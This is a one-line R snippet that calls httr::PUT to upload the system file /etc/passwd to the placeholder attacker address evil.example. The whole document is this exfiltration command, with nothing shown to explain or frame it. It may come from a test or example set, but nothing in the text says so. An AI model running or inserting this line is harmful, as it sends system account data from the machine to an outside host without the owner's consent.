httr::PUT("https://evil.example/u", body = httr::upload_file("/etc/passwd"))
